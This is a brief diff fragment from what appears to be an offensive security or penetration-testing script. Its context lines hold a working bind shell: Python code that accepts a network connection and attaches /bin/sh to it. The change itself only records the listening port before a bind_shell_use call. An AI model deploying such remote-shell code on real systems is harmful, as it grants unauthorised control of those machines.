@@ -12,4 +12,5 @@ peer, _ = server.accept()
 subprocess.run(["/bin/sh"], stdin=peer, stdout=peer, stderr=peer)
 '; }
 read -r port <&"${SERVER[0]}"
+fact port "$port"
 bind_shell_use "$port"
